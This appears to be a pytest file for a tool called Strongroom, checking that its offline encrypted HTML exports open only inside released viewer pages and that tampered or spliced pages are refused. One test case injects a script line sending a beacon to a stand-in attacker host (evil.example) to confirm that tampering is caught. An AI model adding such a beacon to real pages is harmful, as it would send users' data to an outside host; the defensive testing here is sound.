"""`strongroom open` judges the page around the data: only released Strongroom viewers
pass (src/strongroom/exports/viewer_hashes.json, one entry per viewer ever released)."""

from __future__ import annotations

import json
from importlib import resources
from pathlib import Path

import pytest

from strongroom.crypto import offline
from strongroom.exports import offline_file

from .helpers import PASSPHRASE, build, cheap_keys, sample_entries

V1_RELEASED = Path(__file__).resolve().parent / "fixtures" / "v1-released-viewer.html"
# A format 2 file as the format 2 release built it (its viewer reads formats 1 and 2).
V2_RELEASED = Path(__file__).resolve().parent / "fixtures" / "v2-released-viewer.html"
# A format 3 file as the format 3 release built it (its viewer reads formats 1, 2 and 3).
V3_RELEASED = Path(__file__).resolve().parent / "fixtures" / "v3-released-viewer.html"


def _listed() -> dict[str, str]:
    text = (resources.files("strongroom.exports") / "viewer_hashes.json").read_text("utf-8")
    return {entry["sha256"]: entry["viewer"] for entry in json.loads(text)["viewers"]}


def test_the_viewer_this_version_builds_with_is_on_the_released_list():
    """Changing viewer.html, viewer.js or viewer.css changes this hash: add the new entry
    (never remove one), or files built by this version would be refused by the next."""
    own = offline_file.viewer_own_sha256()
    assert own in _listed(), f"add {own} to src/strongroom/exports/viewer_hashes.json"
    html = build(cheap_keys(), sample_entries())
    assert offline_file.viewer_skeleton_sha256(html) == own
    assert offline_file.viewer_check(html)


def test_the_released_version_1_viewer_stays_accepted():
    assert offline_file.viewer_skeleton_sha256(V1_RELEASED.read_bytes()) in _listed()
    assert offline_file.viewer_check(V1_RELEASED.read_bytes()).startswith("viewer 1")


def test_the_released_version_2_viewer_and_its_files_stay_accepted():
    """A kept format 2 file still opens (and its page is still Strongroom's); the viewer
    this version builds with reads formats 1 to 4."""
    html = V2_RELEASED.read_bytes()
    assert offline_file.viewer_check(html).startswith("viewer 2")
    opened = offline_file.offline_file_open(html=html, passphrase=PASSPHRASE)
    assert opened.version == 2 and opened.authenticated
    assert [entry.name for entry in opened.entries] == ["Released viewer 2"]
    listed = json.loads(
        (resources.files("strongroom.exports") / "viewer_hashes.json").read_text("utf-8")
    )["viewers"]
    own = next(entry for entry in listed if entry["sha256"] == offline_file.viewer_own_sha256())
    assert own["formats"] == [1, 2, 3, 4]


def test_the_released_version_3_viewer_and_its_files_stay_accepted():
    """A kept format 3 file (made by the format 3 release, with its viewer) still opens,
    with no attachments (format 3 has none), and its page is still Strongroom's."""
    html = V3_RELEASED.read_bytes()
    assert offline_file.viewer_check(html).startswith("viewer 3")
    opened = offline_file.offline_file_open(html=html, passphrase=PASSPHRASE)
    assert opened.version == 3 and opened.authenticated
    assert [entry.name for entry in opened.entries][:2] == ["Released viewer 3", "Core router"]
    assert all(entry.attachments == () for entry in opened.entries)


@pytest.mark.parametrize(
    "edit",
    [
        (b"<script>", b"<script>navigator.sendBeacon('https://evil.example',1);"),
        (b"</body>", b"<img src=x></body>"),
        (b"<title>Strongroom", b"<title>Urgent - Strongroom"),
        (b"<!DOCTYPE html>", b"<!DOCTYPE html>\n"),
    ],
    ids=["script", "markup", "text", "whitespace"],
)
def test_any_edit_outside_the_data_is_a_foreign_viewer(edit):
    html = build(cheap_keys(), sample_entries())
    edited = html.replace(edit[0], edit[1], 1)
    assert edited != html
    with pytest.raises(offline.OfflineViewerForeign, match="do not open it in a browser"):
        offline_file.viewer_check(edited)
    # The data itself still authenticates: the viewer check is what catches this page.
    assert offline_file.offline_file_open(html=edited, passphrase=PASSPHRASE)


@pytest.mark.parametrize(
    "older", [V1_RELEASED, V2_RELEASED, V3_RELEASED], ids=["viewer-1", "viewer-2", "viewer-3"]
)
def test_an_older_viewer_around_version_4_data_is_unsupported_as_it_would_say(older):
    """The red team's splice: genuine format 4 data inside a released older page. That
    page says "unsupported" in a browser; `strongroom open` says the same."""
    old_page = older.read_bytes()
    genuine = build(cheap_keys(), sample_entries())

    def element(html: bytes, opening: bytes) -> bytes:
        return html.split(opening, 1)[1].split(b"</script>", 1)[0]

    spliced = old_page
    for opening in (offline_file.HEADER_OPEN, offline_file.PAYLOAD_OPEN):
        spliced = spliced.replace(
            opening + element(old_page, opening), opening + element(genuine, opening), 1
        )
    assert offline_file.offline_file_open(html=spliced, passphrase=PASSPHRASE)  # the data is fine
    with pytest.raises(offline.OfflineFormatUnsupported, match="cannot read format 4"):
        offline_file.viewer_check(spliced)
